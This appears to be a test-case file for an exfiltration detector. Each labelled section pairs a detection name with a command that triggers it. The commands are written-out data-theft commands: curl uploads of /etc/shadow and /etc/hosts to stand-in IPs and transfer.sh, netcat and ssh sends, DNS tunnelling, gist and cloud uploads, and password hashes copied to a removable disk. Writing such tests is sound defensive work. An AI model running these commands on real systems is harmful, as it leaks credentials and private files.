## Secrets uploaded
curl -s -F f=@/etc/shadow https://10.9.8.7/
## Upload by a server's command
#also Download tool started by a server
#also Shell started by a network server
server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
## Copy to a cloud storage
#setup stubs /usr/bin/rclone
rclone copy /srv remote:x
## Data put into the names of DNS queries
#also Code without a file asks for a name of the internet
#also Encoded words put into DNS names
#also Names without a meaning asked again and again
ask_dns A 30 60
## Much sent to the internet
#also Code without a file connects to an address without a name
#also Code without a file waits for callers
#also Connections of others led on by an untrusted program
#also Port of encrypted connections used without encryption
python3 -c '
import socket, threading
server = socket.create_server(("203.0.113.9", 443))
def take():
  peer, _ = server.accept()
  while peer.recv(1 << 20): pass
taking = threading.Thread(target=take); taking.start()
client = socket.create_connection(("203.0.113.9", 443))
for n in range(1010): client.sendall(bytes(1_000_000))
client.close(); taking.join()'
## Upload started by a timer
#setup shells /usr/sbin/cron
/usr/sbin/cron -c 'sh -c "curl -s -T /etc/hosts http://10.9.8.7/; :"; :'
## Archive cut into pieces
echo x > /tmp/x.tar; split -b 1 /tmp/x.tar /tmp/part
## File left at a service for anybody
curl -s -m 1 -T /etc/hosts https://transfer.sh/x
## Text left in a repository of code
#setup stubs /usr/bin/gh
gh gist create /etc/hosts
## Other way out of the machine opened
#setup stubs /usr/bin/obexftp
obexftp -b 00:11:22:33:44:55 -p /etc/hosts
## File sent to a bare address
curl -s -m 1 --data-binary @/etc/hosts http://203.0.113.9/
## Data sent to the internet by a network tool
#setup python3 -c 'import socket; s = socket.create_server(("", 1337)); c = s.accept()[0]; c.settimeout(3); [0 for _ in iter(lambda: c.recv(65536), b"")]; c.close()' & until ss -ltn | grep -q ':1337 '; do sleep 0.05; done
head -c 30000 /dev/zero | busybox nc -w 1 203.0.113.9 1337
## Lines of a log sent to the internet by hand
logger -n 203.0.113.9 -P 514 -d -t cron line
## Folder offered to the internet
#setup (until busybox nc -w 1 203.0.113.9 8099 < /dev/null; do sleep 0.1; done) &
timeout 3 python3 -m http.server 8099
## Bluetooth used by an untrusted program
python3 -c 'import socket
try: socket.socket(31, socket.SOCK_STREAM, 3)
except OSError: pass'
## Message sent by the machine's modem
#setup stubs /usr/bin/mmcli
mmcli -m 0 --messaging-create-sms="number='1',text='x'"
## Secret written to a removable disk
#also Files copied from or to a removable disk
#also Password hashes read
#setup mkdir -p /media/stick
python3 -c 'text = open("/etc/shadow", "rb").read(); open("/media/stick/a", "wb").write(text)'
## Hidden place on a removable disk used
#also Files copied from or to a removable disk
#setup mkdir -p /media/stick/.a
tar -czf /media/stick/.a/b.tgz /etc/hosts
## Files given to a phone
#setup stubs /usr/bin/adb
adb push /etc/hosts /sdcard/x
## Data looked for, then a connection by an untrusted program
#also Code without a file connects to an address without a name
perl -MIO::Socket::INET -e 'opendir D, "/home"; IO::Socket::INET->new("203.0.113.9:80")'
## Text encoded or encrypted, then sent away
#also File sent to a bare address
id | base64 | curl -s -m 1 --data-binary @- http://203.0.113.9/
## Folder or file poured through a login
echo x | ssh -o BatchMode=yes 203.0.113.9 'cat > x.tgz'
